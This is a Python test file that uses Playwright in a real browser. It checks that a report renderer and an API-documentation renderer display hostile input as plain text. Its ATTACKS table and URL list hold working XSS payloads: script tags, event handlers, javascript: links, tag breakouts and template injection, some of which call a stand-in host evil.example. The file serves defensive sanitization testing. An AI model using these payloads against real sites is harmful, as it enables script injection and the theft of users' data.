"""Hostile articles, facts and addresses in a real browser: shown as text, and nothing else happens."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, NamedTuple

import pytest

from assay.api.documentation import render_documentation
from assay.presentation import render_html
from assay_schemas import FactId, Notice, NoticeCode, Source
from tests.testing.browsers import IN_A_BROWSER
from tests.testing.builders import make_claim, make_decided, make_evidence, make_report

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext, Dialog

pytestmark = IN_A_BROWSER

ADDRESS = "https://archive.example/tower"
HARMLESS = "The new tower is 120 metres high, says the city, and it opened in May."
ATTACKS = {
    "script": "<script>alert(1)</script><script src=//evil.example/x.js></script>",
    "script in pieces": "<scr<script>ipt>alert(1)</scr</script>ipt><SCRIPT\n>alert(1)</SCRIPT \t>",
    "event handlers": (
        "<img src=x onerror=alert(1)><svg/onload=alert(1)>"
        "<body onpageshow=alert(1)><details ontoggle=alert(1) open>"
    ),
    "addresses": "<a href='javascript:alert(1)'>a</a><a href=&#106;avascript:alert(1)>b</a> javascript:alert(1)",
    "end of the title": "</title><script>alert(1)</script><title>",
    "end of the style": "</style><script>alert(1)</script><style>* { display: none !important }</style>",
    "out of an attribute": "\"'` onmouseover=alert(1) autofocus onfocus=alert(1) x=\"><script>alert(1)</script>",
    "broken tags": "<<a/<b<!-- --!> <![CDATA[<script>alert(1)]]> </p></div></body></html><plaintext><xmp>",
    "frames": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe><object data=//evil.example><embed src=x>",
    "refresh": (
        "<meta http-equiv=refresh content='0;url=//evil.example'>"
        "<base href=//evil.example><link rel=stylesheet href=//evil.example/x>"
    ),
    "style": "<div style='position:fixed;inset:0;background:url(//evil.example/x)'>x</div> @import '//evil.example';",
    "form": (
        "<form action=//evil.example><input autofocus onfocus=alert(1)>"
        "<button formaction=javascript:alert(1)>x</button></form>"
    ),
    "templates": (
        "{{ 7 * 7 }} {% for x in y %} {# gone #} ${alert(1)} $x "
        "<%= 1 %> {{constructor.constructor('alert(1)')()}}"
    ),
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &amp;lt; \\u003cscript\\u003e %3Cscript%3E",
    "namespaces": (
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
        "</style></table></math><svg><style><a title='</style><img src onerror=alert(1)>'>"
    ),
}  # fmt: skip
COUNTED = (
    "script, img, iframe, a, object, embed, form, input, svg, math, style, link, meta, base, title, body, plaintext"
)


class Visit(NamedTuple):
    """What a browser made of a page.

    Attributes:
        text: All text of the page, as its elements hold it.
        counts: How many elements there are of those that could do something.
        events: Dialogs, lines on the console, requests beyond the page itself.
        links: Where links outside of the page lead.
        handlers: Attributes that would run a script.
    """

    text: str
    counts: dict[str, int]
    events: list[str]
    links: list[str]
    handlers: list[str]


@pytest.fixture(scope="module")
def context(browser: Browser) -> Iterator[BrowserContext]:
    with browser.new_context() as context:
        yield context


def visit(context: BrowserContext, path: Path, html: str) -> Visit:
    path.write_text(html, encoding="utf-8")
    page = context.new_page()
    events: list[str] = []

    def dismiss(dialog: Dialog) -> None:
        events.append(f"dialog {dialog.message}")
        dialog.dismiss()

    page.on("request", lambda request: events.append(request.url))
    page.on("console", lambda message: events.append(message.text))
    page.on("dialog", dismiss)
    page.goto(path.as_uri())
    page.mouse.move(200, 200)
    found = page.evaluate(
        """counted => {
            const all = [...document.querySelectorAll('*')];
            return [
                document.body.textContent,
                Object.fromEntries(counted.split(', ').map(tag => [tag, document.querySelectorAll(tag).length])),
                [...document.querySelectorAll('a')].map(a => a.href).filter(href => !href.startsWith('file:')),
                all.flatMap(e => [...e.attributes]).map(a => a.name).filter(name => name.startsWith('on')),
            ];
        }""",
        COUNTED,
    )
    page.close()
    text, counts, links, handlers = found
    return Visit(text, counts, [event for event in events if event != path.as_uri()], links, handlers)


def report_on(attack: str, *urls: str) -> str:
    """Return the page of an article, facts and notices that all hold the attack, and of sources at these addresses."""
    article = f"{attack}\n\n{HARMLESS} {attack}\n"
    sources = [Source(publisher=attack, title=attack, url=url, published="2025") for url in urls or (ADDRESS,)]
    evidence = tuple(
        make_evidence(statement=attack, source=source).model_copy(update={"fact_id": FactId(attack)})
        for source in sources
    )
    claims = (
        make_claim(HARMLESS, number=1, within=article, evidence=evidence, explanation=attack, attributed_to=attack),
        make_claim(attack, number=2, within=article),
    )
    notice = Notice(code=NoticeCode.TEXT_EXTRACTED, message=attack)
    decided = {claim.id: make_decided(note=attack, by=attack) for claim in claims}
    return render_html(make_report(*claims, title=attack, notices=(notice,)), article, decided)


def squeezed(text: str) -> str:
    # The references to claims stand between the words of the article.
    return re.sub(r"\s+|[✗✓?]\s*c\d", "", text)


@pytest.fixture(scope="module")
def harmless(context: BrowserContext, tmp_path_factory: pytest.TempPathFactory) -> Visit:
    return visit(context, tmp_path_factory.mktemp("page") / "harmless.html", report_on("An ordinary sentence"))


@pytest.mark.parametrize("first", range(0, len(ATTACKS), 5))
def test_attacks_are_shown_as_text(context: BrowserContext, tmp_path: Path, harmless: Visit, first: int) -> None:
    attacks = list(ATTACKS.values())[first : first + 5]
    hostile = visit(context, tmp_path / "hostile.html", report_on(" ".join(attacks)))

    assert (hostile.counts, hostile.events, hostile.handlers) == (harmless.counts, [], [])
    shown, times = squeezed(hostile.text), squeezed(harmless.text).count("Anordinarysentence")
    assert [attack for attack in attacks if shown.count(squeezed(attack)) < times] == []
    assert hostile.links == harmless.links == [ADDRESS]


def test_address_that_is_none_is_no_link(context: BrowserContext, tmp_path: Path) -> None:
    urls = (
        "javascript:alert(1)",
        " JavaScript\n:alert(1)//https://a.example",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
        "https://[",
        "\x01javascript:alert(1)",
    )
    page = visit(context, tmp_path / "page.html", report_on(HARMLESS, *urls))

    assert (page.links, page.events) == ([], [])


def test_documentation_shows_hostile_descriptions_as_text(context: BrowserContext, tmp_path: Path) -> None:
    def page_of(text: str) -> str:
        answer = {"200": {"description": text, "content": {"application/json": {"schema": {"type": text}}}}}
        operation = {"summary": text, "description": text, "tags": [text], "responses": answer, "operationId": "x"}
        model = {"type": "object", "description": text, "properties": {text: {"type": "string", "description": text}}}
        info = {"title": text, "version": "1", "summary": text}
        api = {"info": info, "paths": {"/x": {"get": operation}}, "components": {"schemas": {"X": model}}}
        return render_documentation(api)

    harmless = visit(context, tmp_path / "harmless.html", page_of("An ordinary sentence"))
    attack = " ".join(ATTACKS.values())
    hostile = visit(context, tmp_path / "hostile.html", page_of(attack))

    assert (hostile.counts, hostile.events, hostile.handlers) == (harmless.counts, [], [])
    assert squeezed(attack) in squeezed(hostile.text)


def test_an_attack_that_is_no_text_would_be_seen(context: BrowserContext, tmp_path: Path) -> None:
    attack = ATTACKS["script"] + ATTACKS["event handlers"]
    page = visit(context, tmp_path / "page.html", f"<!DOCTYPE html><body>{attack}")

    assert "dialog 1" in page.events
    assert page.handlers
    assert page.counts["script"] == 2
